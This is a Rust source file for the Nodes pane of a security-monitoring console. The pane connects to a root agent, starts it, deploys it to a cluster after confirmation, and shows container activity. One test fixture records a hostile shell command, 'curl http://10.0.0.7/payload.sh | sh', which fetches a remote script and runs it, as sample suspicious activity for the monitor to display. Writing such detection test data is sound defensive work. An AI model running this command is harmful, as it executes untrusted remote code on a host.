//! Transitions of the Nodes pane: connecting to the local agent (on first showing, `ctrl-r`),
//! its lines, starting it (`a`: as a child when picket is root, else the sudo command to run),
//! deploying it to a cluster context (`A`, after a question), a container's activity (`enter`).

use std::time::Duration;

use crate::agent::wire::WireEvent;
use crate::app::action::Effect;
use crate::app::state::{
    AgentLink, AgentPod, AppState, ClusterAgents, Confirmation, Loadable, Mode, NodesState, PaneId, StartedAgent,
};
use crate::app::update::toast;

/// How long a just-started agent may take to open its socket.
const START_WAIT: Duration = Duration::from_secs(15);

/// The pane is on screen: connect if there is no connection (an agent may have started since),
/// and to the active context's agents.
pub fn ensure_connected(state: &mut AppState) -> Vec<Effect> {
    let mut effects = match state.nodes.as_ref().map(|n| &n.link) {
        Some(AgentLink::Connected | AgentLink::Connecting) => vec![],
        Some(AgentLink::Down(_)) | None => connect(state, Duration::ZERO),
    };
    effects.extend(connect_cluster(state, false));
    effects
}

/// Lists the active context's agents and reads them (again, with `again`; else only when the
/// context changed).
pub fn connect_cluster(state: &mut AppState, again: bool) -> Vec<Effect> {
    let context = state.active_context().map(String::from);
    let conn = state.take_id();
    let Some(nodes) = state.nodes.as_mut() else { return vec![] };
    let Some(context) = context else {
        nodes.cluster = None;
        return vec![];
    };
    if !again && nodes.cluster.as_ref().is_some_and(|c| c.context == context) {
        return vec![];
    }
    nodes.cluster = Some(ClusterAgents::new(context.clone(), conn));
    vec![Effect::ConnectClusterAgents { conn, context }]
}

pub fn cluster_listed(state: &mut AppState, conn: u64, result: Result<Vec<AgentPod>, String>) {
    let Some(cluster) = state.nodes.as_mut().and_then(|n| n.cluster.as_mut()).filter(|c| c.conn == conn) else {
        return;
    };
    cluster.pods = match result {
        Ok(pods) => Loadable::Ready(pods),
        Err(err) => Loadable::Failed(err),
    };
}

pub fn cluster_down(state: &mut AppState, conn: u64, pod: String, reason: String) {
    let Some(cluster) = state.nodes.as_mut().and_then(|n| n.cluster.as_mut()).filter(|c| c.conn == conn) else {
        return;
    };
    cluster.errors.insert(pod, reason);
}

/// A new connection attempt; what the last one showed stays until lines arrive.
pub fn connect(state: &mut AppState, wait: Duration) -> Vec<Effect> {
    let conn = state.take_id();
    let socket = state.agent_socket.clone();
    match state.nodes.as_mut() {
        Some(nodes) => {
            nodes.conn = conn;
            nodes.link = AgentLink::Connecting;
        }
        None => state.nodes = Some(NodesState::new(socket.clone(), conn)),
    }
    vec![Effect::ConnectAgent { conn, socket, wait }]
}

pub fn lines(state: &mut AppState, conn: u64, events: Vec<WireEvent>, unreadable: u64) {
    let Some(nodes) = state.nodes.as_mut() else { return };
    let local = nodes.conn == conn;
    let cluster = nodes.cluster.as_ref().is_some_and(|c| c.conn == conn);
    if !local && !cluster {
        return;
    }
    if local {
        if nodes.link != AgentLink::Connected && nodes.started.is_none() {
            nodes.note = None;
        }
        nodes.link = AgentLink::Connected;
    }
    nodes.unreadable = nodes.unreadable.saturating_add(unreadable);
    nodes.apply(events, local);
}

pub fn down(state: &mut AppState, conn: u64, reason: String) {
    let Some(nodes) = state.nodes.as_mut().filter(|n| n.conn == conn) else { return };
    nodes.link = AgentLink::Down(reason);
}

/// The command that starts the agent where the console's user cannot.
pub fn sudo_command(exe: &str, socket: &std::path::Path) -> String {
    format!("sudo {exe} agent run --socket {} --quiet", socket.display())
}

/// `a`: start the agent on this machine.
pub fn start(state: &mut AppState) -> Vec<Effect> {
    let Some(nodes) = state.nodes.as_mut() else { return vec![] };
    if nodes.link == AgentLink::Connected {
        let pid = nodes.agent.as_ref().map_or(0, |a| a.stats.pid);
        return toast(state, format!("an agent already serves {} (pid {pid})", state.agent_socket.display()), false);
    }
    if nodes.starting {
        return toast(state, "the agent is starting".into(), false);
    }
    if !state.is_root {
        let command = sudo_command(&state.picket_exe, &state.agent_socket);
        nodes.note = Some(format!("The agent loads kernel programs and needs root. Start it with:\n  {command}"));
        return toast(state, "the agent needs root: run the command shown".into(), false);
    }
    nodes.link = AgentLink::Connecting;
    nodes.starting = true;
    nodes.note = Some("starting the agent…".into());
    vec![Effect::StartAgent { socket: state.agent_socket.clone() }]
}

pub fn started(state: &mut AppState, result: Result<StartedAgent, String>) -> Vec<Effect> {
    let Some(nodes) = state.nodes.as_mut() else { return vec![] };
    nodes.starting = false;
    match result {
        Ok(agent) => {
            nodes.note = Some(format!(
                "agent started by the console (pid {}, log {}); it stops when picket does, and the node fails open",
                agent.pid,
                agent.log.display()
            ));
            nodes.started = Some(agent);
            connect(state, START_WAIT)
        }
        Err(err) => {
            nodes.note = None;
            nodes.link = AgentLink::Down(err.clone());
            toast(state, err, true)
        }
    }
}

/// `A`: deploy to the active context, after a question.
pub fn deploy(state: &mut AppState) -> Vec<Effect> {
    let Some(context) = state.active_context().map(String::from) else {
        return toast(state, "no cluster context: pick one with :ctx NAME".into(), true);
    };
    state.mode = Mode::Confirm(Confirmation {
        question: format!("Deploy the picket agent to every node of context {context}?"),
        detail: "Server-side applies Namespace picket-system, ServiceAccount, ClusterRole and binding \
                 (read pods and nodes) and DaemonSet picket-agent (privileged, hostPID), as \
                 'picket agent manifest' prints them."
            .into(),
        effect: Effect::DeployAgent { context },
    });
    vec![]
}

pub fn deployed(state: &mut AppState, context: String, result: Result<Vec<String>, String>) -> Vec<Effect> {
    match result {
        Ok(objects) => {
            let mut effects = toast(state, format!("context {context}: applied {}", objects.join(", ")), false);
            if state.pane() == PaneId::Nodes {
                effects.extend(connect_cluster(state, true));
            }
            effects
        }
        Err(err) => toast(state, format!("context {context}: {err}"), true),
    }
}

/// `enter`: the selected container's processes and events.
pub fn enter(state: &mut AppState) -> Vec<Effect> {
    let Some(nodes) = state.nodes.as_mut() else { return vec![] };
    let Some(key) = nodes.selected().map(|a| a.key.clone()) else { return vec![] };
    nodes.opened = Some(key);
    state.nav.push(PaneId::NodeActivity);
    vec![]
}

#[cfg(test)]
pub(crate) mod tests {
    use std::time::Duration;

    use crate::agent::attribution::{ContainerRef, Runtime};
    use crate::agent::wire::{AgentStats, WireEvent};
    use crate::app::action::{Action, Command, Effect};
    use crate::app::fixtures::{self, code, key, type_text};
    use crate::app::state::{AgentLink, AppState, Mode, PaneId, StartedAgent};
    use crate::app::update::{run_command, update};
    use crossterm::event::KeyCode;

    fn on_nodes() -> (AppState, u64) {
        let mut state = fixtures::state();
        type_text(&mut state, ":nodes");
        let effects = update(&mut state, Action::Key(code(KeyCode::Enter)));
        assert_eq!(state.pane(), PaneId::Nodes);
        let Some(Effect::ConnectAgent { conn, socket, wait }) = effects.first().cloned() else { panic!("{effects:?}") };
        assert_eq!(socket, state.agent_socket);
        assert_eq!(wait, Duration::ZERO);
        (state, conn)
    }

    pub fn sample_lines() -> Vec<WireEvent> {
        let web = ContainerRef {
            runtime: Runtime::Podman,
            id: "4f1c0a9e2b7d".repeat(5) + "0000",
            pod_uid: None,
            name: Some("web".into()),
            image: Some("docker.io/library/nginx:1.27".into()),
            pod_namespace: None,
            pod_name: None,
            pod_owner: None,
        };
        let exec = |pid, ppid, path: &str, args: &[&str], container: Option<&ContainerRef>| {
            crate::app::fixtures::exec_event("node-1", pid, ppid, path, args, container)
        };
        vec![
            WireEvent::stats(
                "node-1",
                AgentStats {
                    events: 1200,
                    uptime_s: 10,
                    pid: 4242,
                    version: "0.1.0".into(),
                    sensors: vec!["process".into(), "network".into()],
                    ..Default::default()
                },
            ),
            exec(300, 1, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], Some(&web)),
            exec(310, 300, "/usr/sbin/nginx", &["nginx: worker process"], Some(&web)),
            exec(320, 300, "/bin/sh", &["sh", "-c", "curl http://10.0.0.7/payload.sh | sh"], Some(&web)),
            exec(900, 1, "/usr/bin/bash", &["bash"], None),
            WireEvent::Dns {
                v: crate::agent::wire::WIRE_VERSION,
                node: "node-1".into(),
                server: "10.96.0.10".parse().expect("address"),
                answer: crate::agent::dns::DnsAnswer {
                    query: "api.payments.example".into(),
                    rcode: "NoError".into(),
                    addresses: vec!["192.0.2.7".parse().expect("address")],
                    cnames: Vec::new(),
                },
                container: Some(web.clone()),
            },
            WireEvent::Flow {
                v: crate::agent::wire::WIRE_VERSION,
                node: "node-1".into(),
                flow: crate::agent::flows::FlowSeen {
                    way: crate::agent::flows::Way::Sent,
                    local: ("10.88.0.5".parse().expect("address"), 40112),
                    remote: ("192.0.2.7".parse().expect("address"), 443),
                    by: crate::agent::protocols::Direction::Client,
                    protocol: crate::agent::protocols::Protocol::Tls { sni: Some("api.payments.example".into()) },
                },
                container: Some(web.clone()),
                folded: 0,
            },
            WireEvent::stats(
                "node-1",
                AgentStats {
                    events: 2400,
                    uptime_s: 12,
                    dropped: 3,
                    pid: 4242,
                    version: "0.1.0".into(),
                    sensors: vec!["process".into(), "network".into()],
                    ..Default::default()
                },
            ),
        ]
    }

    #[test]
    fn connects_once_takes_lines_and_drops_stale_ones() {
        let (mut state, conn) = on_nodes();
        let effects = run_command(&mut state, Command::NextPane);
        assert!(!effects.iter().any(|e| matches!(e, Effect::ConnectAgent { .. })), "{effects:?}");
        let effects = run_command(&mut state, Command::PrevPane);
        assert!(effects.is_empty(), "already connecting: {effects:?}");
        update(&mut state, Action::AgentLines { conn: conn + 99, events: sample_lines(), unreadable: 0 });
        assert!(state.nodes.as_ref().unwrap().activity.is_empty(), "a stale connection's lines are dropped");
        update(&mut state, Action::AgentLines { conn, events: sample_lines(), unreadable: 1 });
        let nodes = state.nodes.as_ref().unwrap();
        assert_eq!(nodes.link, AgentLink::Connected);
        assert_eq!(nodes.agent.as_ref().unwrap().rate_tenths, 6000);
        assert_eq!(nodes.rows().len(), 2);
        assert_eq!(nodes.unreadable, 1);
        update(&mut state, Action::AgentDown { conn, reason: "the agent stopped".into() });
        assert_eq!(state.nodes.as_ref().unwrap().link, AgentLink::Down("the agent stopped".into()));
        let effects = run_command(&mut state, Command::Refresh);
        assert!(
            effects.iter().any(|e| matches!(e, Effect::ConnectAgent { conn: c, .. } if *c != conn)),
            "ctrl-r connects again: {effects:?}"
        );
    }

    #[test]
    fn start_spawns_as_root_and_shows_sudo_otherwise() {
        let (mut state, conn) = on_nodes();
        update(&mut state, Action::AgentDown { conn, reason: "no agent is serving /run/picket/agent.sock".into() });
        state.is_root = false;
        let effects = update(&mut state, Action::Key(key('a')));
        assert!(!effects.iter().any(|e| matches!(e, Effect::StartAgent { .. })), "{effects:?}");
        let note = state.nodes.as_ref().unwrap().note.clone().unwrap();
        assert!(note.ends_with("sudo picket agent run --socket /run/picket/agent.sock --quiet"), "{note}");
        crate::assert_screen!("nodes_no_agent", &state);

        state.is_root = true;
        let effects = update(&mut state, Action::Key(key('a')));
        assert_eq!(effects, [Effect::StartAgent { socket: state.agent_socket.clone() }]);
        let again = update(&mut state, Action::Key(key('a')));
        assert!(!again.iter().any(|e| matches!(e, Effect::StartAgent { .. })), "one start at a time: {again:?}");
        let effects =
            update(&mut state, Action::AgentStarted(Ok(StartedAgent { pid: 777, log: "/tmp/agent.log".into() })));
        let Some(Effect::ConnectAgent { wait, .. }) = effects.first() else { panic!("{effects:?}") };
        assert!(*wait > Duration::ZERO, "a new agent gets time to open its socket");
        assert_eq!(state.nodes.as_ref().unwrap().started.as_ref().map(|s| s.pid), Some(777));

        update(&mut state, Action::AgentStarted(Err("picket agent exited: no BTF".into())));
        assert_eq!(state.nodes.as_ref().unwrap().link, AgentLink::Down("picket agent exited: no BTF".into()));
    }

    #[test]
    fn deploying_asks_first_and_names_the_context() {
        let (mut state, _) = on_nodes();
        update(&mut state, Action::Key(key('A')));
        let Mode::Confirm(confirmation) = state.mode.clone() else { panic!("{:?}", state.mode) };
        let context = state.active_context().unwrap().to_string();
        assert!(confirmation.question.contains(&context));
        assert_eq!(confirmation.effect, Effect::DeployAgent { context: context.clone() });
        update(&mut state, Action::Key(key('n')));
        assert_eq!(state.mode, Mode::Normal);
        update(&mut state, Action::Key(key('A')));
        let effects = update(&mut state, Action::Key(key('y')));
        assert_eq!(effects, [Effect::DeployAgent { context: context.clone() }]);
        update(&mut state, Action::AgentDeployed { context, result: Err("forbidden: daemonsets.apps".into()) });
        assert!(state.latest_toast().is_some_and(|t| t.is_error && t.text.contains("forbidden")));
    }

    #[test]
    fn enter_opens_a_containers_activity() {
        let (mut state, conn) = on_nodes();
        update(&mut state, Action::AgentLines { conn, events: sample_lines(), unreadable: 0 });
        update(&mut state, Action::Key(key('j')));
        update(&mut state, Action::Key(code(KeyCode::Enter)));
        assert_eq!(state.pane(), PaneId::NodeActivity);
        assert_eq!(state.nodes.as_ref().unwrap().opened().map(|a| a.label()), Some("web".into()));
        update(&mut state, Action::Key(code(KeyCode::Esc)));
        assert_eq!(state.pane(), PaneId::Nodes);
    }
}
